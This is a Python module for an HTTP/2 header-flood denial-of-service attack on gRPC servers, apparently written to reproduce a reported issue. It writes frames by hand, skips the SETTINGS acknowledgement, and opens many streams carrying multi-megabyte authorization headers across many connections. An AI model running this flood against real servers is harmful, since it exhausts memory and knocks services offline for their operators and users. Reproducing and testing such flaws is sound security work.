"""A raw HTTP/2 client that floods a gRPC server with huge request metadata.

The attack of issue 18: open connections, send the HTTP/2 preface and our SETTINGS, never
acknowledge the server's SETTINGS (so the header-list limit the server announces never takes
effect on the connection), then open many streams whose HEADERS (and CONTINUATION frames)
carry a 3 MiB ``authorization`` value and never a body. Frames are written by hand (the
``hpack`` encoder for the header block), because an HTTP/2 library would acknowledge SETTINGS
and honour the limits. Everything the server sends is read and thrown away, so TCP keeps
flowing.
"""

from __future__ import annotations

import asyncio
import contextlib
import struct
from dataclasses import dataclass, field
from typing import Any

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x7, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4
MAX_FRAME = 16384


def frame(kind: int, flags: int, stream_id: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(
        ">I", stream_id & 0x7FFFFFFF) + payload


def header_frames(stream_id: int, block: bytes) -> list[bytes]:
    """One HEADERS frame and as many CONTINUATION frames as the block needs; no END_STREAM."""
    chunks = [block[i:i + MAX_FRAME] for i in range(0, len(block), MAX_FRAME)] or [b""]
    out = []
    for i, chunk in enumerate(chunks):
        last = END_HEADERS if i == len(chunks) - 1 else 0
        out.append(frame(HEADERS if i == 0 else CONTINUATION, last, stream_id, chunk))
    return out


def header_block(authority: str, path: str, value_bytes: int, index: int) -> bytes:
    encoder = hpack.Encoder()
    headers = [(":method", "POST"), (":scheme", "http"), (":authority", authority),
               (":path", path), ("content-type", "application/grpc"), ("te", "trailers"),
               ("authorization", "Bearer " + f"{index:08d}" + "A" * (value_bytes - 15))]
    # Never indexed, no Huffman: the server must hold the raw bytes.
    return encoder.encode([hpack.NeverIndexedHeaderTuple(n, v) for n, v in headers],
                          huffman=False)


PADDED, PRIORITY = 0x8, 0x20


@dataclass
class FloodResult:
    streams_sent: int = 0
    bytes_sent: int = 0
    frames_seen: dict[int, int] = field(default_factory=dict)  # frame type -> count
    statuses: dict[str, int] = field(default_factory=dict)  # grpc-status -> streams
    errors: list[str] = field(default_factory=list)
    answered: int = 0  # streams the server ended (a status, or RST_STREAM)
    all_answered: asyncio.Event = field(default_factory=asyncio.Event)
    expected: int = 0
    closed: int = 0  # connections the server closed


def _headers_payload(flags: int, payload: bytes) -> bytes:
    if flags & PADDED:
        payload = payload[1:len(payload) - payload[0]]
    return payload[5:] if flags & PRIORITY else payload


async def _drain(reader: asyncio.StreamReader, result: FloodResult) -> None:
    """Reads what the server sends (never acknowledging its SETTINGS): counts frame types,
    decodes the statuses of the streams it ends."""
    decoder = hpack.Decoder()
    decoder.max_allowed_table_size = 1 << 16
    ended: set[int] = set()
    with contextlib.suppress(asyncio.IncompleteReadError, ConnectionError):
        while True:
            head = await reader.readexactly(9)
            length, kind, flags = int.from_bytes(head[:3], "big"), head[3], head[4]
            stream_id = int.from_bytes(head[5:9], "big") & 0x7FFFFFFF
            payload = await reader.readexactly(length)
            result.frames_seen[kind] = result.frames_seen.get(kind, 0) + 1
            if kind == HEADERS:
                headers: dict[Any, Any] = dict(decoder.decode(_headers_payload(flags, payload)))
                status = headers.get("grpc-status")
                if status is not None:
                    result.statuses[status] = result.statuses.get(status, 0) + 1
            ends = (kind == HEADERS and flags & END_STREAM) or kind == RST_STREAM
            if ends and stream_id not in ended:
                ended.add(stream_id)
                result.answered += 1
                if result.answered >= result.expected:
                    result.all_answered.set()
    result.closed += 1


async def _one_connection(host: str, port: int, streams: int, value_bytes: int,
                          result: FloodResult, hold: asyncio.Event, path: str) -> None:
    reader, writer = await asyncio.open_connection(host, port)
    drain = asyncio.create_task(_drain(reader, result))
    try:
        writer.write(PREFACE + frame(SETTINGS, 0, 0, b""))
        authority = f"{host}:{port}"
        for i in range(streams):
            block = header_block(authority, path, value_bytes, i)
            for f in header_frames(2 * i + 1, block):
                writer.write(f)
            try:
                await writer.drain()
            except ConnectionError as exc:
                result.errors.append(type(exc).__name__)
                return
            result.streams_sent += 1
            result.bytes_sent += len(block)
        await hold.wait()  # keep the connection (and its streams) open until told
    finally:
        drain.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await drain
        writer.close()
        with contextlib.suppress(ConnectionError):
            await writer.wait_closed()


async def flood(host: str, port: int, *, connections: int, streams_per_connection: int,
                value_bytes: int = 3 * 1024 * 1024, hold: asyncio.Event,
                result: FloodResult | None = None,
                path: str = "/switchboard.v1.LlmRegistry/ListLlms") -> FloodResult:
    """Runs the flood; returns when every connection has sent its streams and ``hold`` is set
    (then the connections close). ``result`` fills in as it goes (``all_answered``)."""
    result = result or FloodResult()
    result.expected = connections * streams_per_connection
    async with asyncio.TaskGroup() as tg:
        for _ in range(connections):
            tg.create_task(_one_connection(host, port, streams_per_connection, value_bytes,
                                           result, hold, path))
    return result
